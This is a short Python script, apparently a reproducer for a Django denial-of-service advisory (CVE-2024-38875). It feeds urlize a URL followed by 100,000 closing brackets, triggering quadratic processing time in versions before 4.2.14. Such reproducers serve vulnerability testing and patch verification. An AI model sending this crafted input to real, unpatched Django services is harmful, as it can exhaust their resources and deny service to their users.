# PYSEC-2024-56 (CVE-2024-38875): Django before 4.2.14, urlize and urlizetrunc trim wrapping punctuation one
# bracket at a time, rescanning the word each time: a word with a very large number of brackets takes quadratic time.
from django.conf import settings

settings.configure(USE_I18N=False)
from django.utils.html import urlize  # noqa: E402

urlize("http://example.com" + ")" * 100_000)
